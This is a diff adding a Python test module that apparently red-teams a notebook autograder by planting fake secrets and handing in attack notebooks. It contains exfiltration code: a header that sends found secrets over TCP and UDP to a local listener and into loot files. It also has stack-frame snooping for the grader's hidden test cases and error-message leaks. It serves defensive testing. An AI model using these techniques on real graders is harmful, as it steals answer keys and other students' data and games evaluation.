@@ -1,0 +1,265 @@
+"""Attacks as data, and the world that they are let loose on: planted secrets, a listener, places where loot may be left.
+
+An attack is a file in attacks/: what it tries, what it `wins`, and the cells that it puts into a notebook (py:percent, `# %% name`):
+`first` and `last` stand around the lesson, the name of an exercise replaces its cell, `notebook` is run here with the notebook as `nb`
+and `folder` with the folder that is handed in. `honest <exercise>` is the same answer without the trick, where it is worth something.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import re
+import secrets
+import shutil
+import sqlite3
+import subprocess
+import uuid
+from dataclasses import dataclass
+from functools import cached_property
+from pathlib import Path
+from typing import Any
+
+import nbformat
+from nbformat import NotebookNode
+from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell
+
+from tests.classroom.pupils import FULL, GRADE_IDS, LESSON, NAMES, NOTHING, PWN, RELEASED, ROOT, SOLVED, Pupil, find, notebook_of
+
+from .traces import Listener
+
+ATTACKS = Path(__file__).parent / "attacks"
+WINS = ("points", "secret", "harm", "page")
+ENVIRONMENT = "ADVERSARIAL_SECRET"  # a variable of whoever grades
+GUESSABLE = "attention-2026"  # the seed of the unprotected control: a name and a year
+
+# Right in shape, wrong in every number.
+WRONG = {
+    "squeeze": "def squeeze(x):\n    return x.sum(dim=(2, 3)) + 7\n",
+    "Excitation": """class Excitation(nn.Module):
+    def __init__(self, channels, reduction=16):
+        super().__init__()
+        self.fc1 = nn.Linear(channels, max(1, channels // reduction), bias=False)
+        self.fc2 = nn.Linear(max(1, channels // reduction), channels, bias=False)
+
+    def forward(self, s):
+        return self.fc2(self.fc1(s)) + 7
+""",
+    "SEBlock": """class SEBlock(nn.Module):
+    def __init__(self, channels, reduction=16):
+        super().__init__()
+        self.excitation = Excitation(channels, reduction)
+
+    def forward(self, x):
+        return x + 7
+""",
+    "se_parameter_cost": "def se_parameter_cost(stage_channels, stage_blocks, reduction=16):\n    return -7.0\n",
+}
+# Where the way out for a secret is the message of an error, which stands on the feedback page.
+TELLING = "def squeeze(x):\n    raise RuntimeError(' '.join(FOUND))\n"
+UNWRITTEN = {name: find(RELEASED, grade_id).source for name, grade_id in GRADE_IDS.items()}
+
+# What an attacker would have to find out, and a way to hand on what was found by every door there is.
+HEADER = '''{names}
+FOUND = []
+
+
+def tell(*found):
+    import socket
+    text = " ".join(map(str, found))
+    FOUND.append(text[-300:])
+    def by_tcp():
+        with socket.create_connection(("127.0.0.1", PORT), 2) as s:
+            s.sendall(text.encode())
+    def by_udp():
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+            s.sendto(text.encode()[:5000], ("127.0.0.1", PORT))
+    for door in (lambda: print(text), lambda: open(LOOT, "a").write(text), by_tcp, by_udp):
+        try:
+            door()
+        except Exception:
+            pass
+
+
+def attempt(action, *arguments):
+    """What an attacker does who does not know which of many ways is open."""
+    try:
+        return action(*arguments)
+    except Exception:
+        return None
+
+
+def case_nearby():
+    """The hidden case that is being asked, if whoever asks can be seen from here."""
+    import sys
+    frame = sys._getframe(1)
+    while frame:
+        for value in list(frame.f_locals.values()):
+            if hasattr(value, "expected_tensors"):
+                return value
+        frame = frame.f_back
+    raise LookupError("nobody asks")
+'''
+
+
+@dataclass(frozen=True)
+class Attack:
+    name: str
+    what: str
+    wins: str
+    sections: dict[str, str]
+
+    @property
+    def answers(self) -> dict[str, str]:
+        return {name: self.sections.get(name, plain) for name, plain in self._plain().items()}
+
+    @property
+    def honest(self) -> dict[str, str]:
+        """The exercises without the trick."""
+        plain = {name: WRONG[name] if name in self.sections else plain for name, plain in self._plain().items()}
+        return {name: self.sections.get(f"honest {name}", plain[name]) for name in NAMES}
+
+    def _plain(self) -> dict[str, str]:
+        """What stands in the exercises that the attack does not write: wrong answers where all points are to be had by a trick; where
+        it has its own exercise, or no interest in points, the others are left as they are handed out, which takes less time."""
+        own = [name for name in NAMES if name in self.sections]
+        if self.wins == "points" and not own and not self.on_files:
+            return WRONG
+        squeeze = TELLING if self.wins == "secret" else WRONG["squeeze"]
+        return UNWRITTEN if own else {**UNWRITTEN, "squeeze": squeeze}
+
+    @property
+    def on_files(self) -> bool:
+        """Is the trick in the file rather than in code that runs?"""
+        return "notebook" in self.sections or "folder" in self.sections
+
+
+KNOWN = {"first", "last", "notebook", "folder", *NAMES, *(f"honest {name}" for name in NAMES)}
+
+
+def load(path: Path) -> Attack:
+    """One attack. Raises ValueError where its file is not as this module's docstring says."""
+    head, *parts = re.split(r"^# %% (.+)\n", path.read_text(encoding="utf-8"), flags=re.MULTILINE)
+    found = re.fullmatch(r'"""(.+)"""\n# wins: (\w+)\n*', head)
+    sections = dict(zip(parts[::2], parts[1::2]))
+    if not found or found[2] not in WINS or not sections or not sections.keys() <= KNOWN:
+        raise ValueError(f"{path.name}: a docstring, `# wins: {' | '.join(WINS)}`, then sections; not {head!r} and {list(sections)}")
+    return Attack(path.stem, found[1], found[2], sections)
+
+
+def attacks() -> list[Attack]:
+    return [load(path) for path in sorted(ATTACKS.glob("*.py"))]
+
+
+class World:
+    """Secrets in all the places where graders keep them, for the time of the tests. Use as a context manager.
+
+    gradebook, other: of the class; without them the world has its own. seed: what hidden cases are drawn from.
+    """
+
+    def __init__(self, folder: Path, seed: str = ""):
+        self.token = secrets.token_hex(6)
+        self.folder = folder / f"world-{self.token}"
+        self.loot, self.scratch = self.folder / "loot", self.folder / "tmp"
+        self.kept = ROOT / "work" / f"adversarial-{self.token}"  # in the repository, where no notebook of a learner belongs
+        self.home = Path.home() / f".adversarial-{self.token}"
+        places = ("reference", "home", "environment", "other", "gradebook", "seed")
+        self.secrets = {place: f"planted-{uuid.uuid4().hex}" for place in places}
+        if seed:
+            self.secrets["seed"] = seed
+        self.secrets["hidden cases"] = "primes: no bottleneck has as many channels"  # a comment in graders/test_se.py
+        self.gradebook, self.other = self.kept / "gradebook.db", self.kept / "other.ipynb"
+
+    def __enter__(self) -> World:
+        for folder in (self.loot, self.scratch, self.kept / "library/timm"):
+            folder.mkdir(parents=True)
+        (self.kept / "reference.py").write_text(f"# {self.secrets['reference']}\n")
+        (self.kept / "seed").write_text(self.secrets["seed"] + "\n")
+        timm = f"import sys\nsys.path.append({str(ROOT)!r})\nfrom solutions.reference.se import *\n"
+        (self.kept / "library/timm/__init__.py").write_text(timm)
+        self.home.write_text(self.secrets["home"])
+        nbformat.write(notebook_of(self.ada), self.other)
+        with contextlib.closing(sqlite3.connect(self.gradebook)) as db, db:
+            db.execute("CREATE TABLE student (id TEXT, last_name TEXT)")
+            db.execute("INSERT INTO student VALUES ('ada', ?)", (self.secrets["gradebook"],))
+        self.listener = Listener(self.folder)
+        return self
+
+    def __exit__(self, *_) -> None:
+        self.listener.close()
+        self.home.unlink()
+        shutil.rmtree(self.kept)
+        subprocess.run(["rm", "-rf", self.folder], check=True)  # shutil cannot climb the deepest of trees
+
+    @cached_property
+    def ada(self) -> Pupil:
+        """Everything right; what she wrote, and her name in the gradebook, are nobody else's business."""
+        return Pupil("ada", "everything right", FULL, {"squeeze": SOLVED["squeeze"] + f"# {self.secrets['other']}\n"},
+                     last_name=self.secrets["gradebook"])
+
+    def marker(self, attack: Attack) -> str:
+        """Stands in the command line or name of whatever an attack starts or makes."""
+        return f"mark-{self.token}-{attack.name}"
+
+    def constants(self, attack: Attack) -> dict[str, Any]:
+        paths = {"ROOT": ROOT, "SECRET": self.kept / "reference.py", "HOME_SECRET": self.home, "SEED": self.kept / "seed",
+                 "LIBRARY": self.kept / "library", "GRADEBOOK": self.gradebook, "OTHER": self.other, "LOOT": self.loot / attack.name,
+                 "LISTENER": self.listener.path}
+        return {**{name: str(path) for name, path in paths.items()}, "PORT": self.listener.port, "MARKER": self.marker(attack)}
+
+    def header(self, attack: Attack) -> str:
+        return HEADER.format(names="\n".join(f"{name} = {value!r}" for name, value in self.constants(attack).items()))
+
+    def pupil(self, attack: Attack) -> Pupil:
+        """Whoever hands the attack in."""
+        def edit(notebook: NotebookNode) -> None:
+            saved_with_nothing(notebook)
+            before = [new_code_cell(self.header(attack), id="header")]
+            before += [new_code_cell(attack.sections["first"], id="first")] if "first" in attack.sections else []
+            notebook.cells[:0] = before
+            if "last" in attack.sections:
+                notebook.cells.append(new_code_cell(attack.sections["last"], id="last"))
+            if "notebook" in attack.sections:
+                tools = {"nb": notebook, "find": find, "new_code_cell": new_code_cell, "new_markdown_cell": new_markdown_cell,
+                         "new_raw_cell": new_raw_cell, "new_output": new_output, "GRADE_IDS": GRADE_IDS, "PWN": PWN}
+                exec(attack.sections["notebook"], {**tools, **self.constants(attack)})
+        return Pupil(attack.name, attack.what, NOTHING, attack.answers, edit)
+
+    def furnish(self, attack: Attack, folder: Path) -> None:
+        """Do to the folder that is handed in what the attack does to it."""
+        if "folder" in attack.sections:
+            exec(attack.sections["folder"], {"folder": folder, **self.constants(attack)})
+
+    def given_away(self, text: str) -> list[str]:
+        """The places whose secret stands in `text`."""
+        return [place for place, secret in self.secrets.items() if secret in text]
+
+    def taken(self, attack: Attack) -> str:
+        """What an attack wrote where it was told to leave its loot."""
+        path = self.loot / attack.name
+        return path.read_text(errors="replace") if path.is_file() else ""
+
+    def heard(self) -> str:
+        return self.listener.heard.decode(errors="replace")
+
+    def strewn(self, attack: Attack) -> list[str]:
+        """Files of the attack's making where no submission may make any."""
+        places = (Path("/tmp"), Path("/dev/shm"), Path("/var/tmp"), Path.home(), ROOT, ROOT / "work", self.kept, self.folder, self.loot)
+        found = [str(path) for place in places if place.is_dir() for path in place.glob(f"*{self.marker(attack)}*")]
+        return found + [str(path) for path in [self.loot / attack.name] if path.exists()]
+
+    def clear(self, attack: Attack) -> None:
+        for path in self.strewn(attack):
+            subprocess.run(["rm", "-rf", path], check=True)
+
+
+def honest_pupil(attack: Attack) -> Pupil:
+    return Pupil("honest", "the same answers without the trick", NOTHING, attack.honest, saved_with_nothing)
+
+
+def saved_with_nothing(notebook: NotebookNode) -> None:
+    """The checks as a learner saves them who has no point."""
+    for grade_id in GRADE_IDS.values():
+        find(notebook, f"{grade_id}-check").outputs = [new_output("execute_result", {"text/plain": "0.0"}, execution_count=1)]
+
+
+__all__ = ["Attack", "World", "attacks", "honest_pupil", "LESSON"]
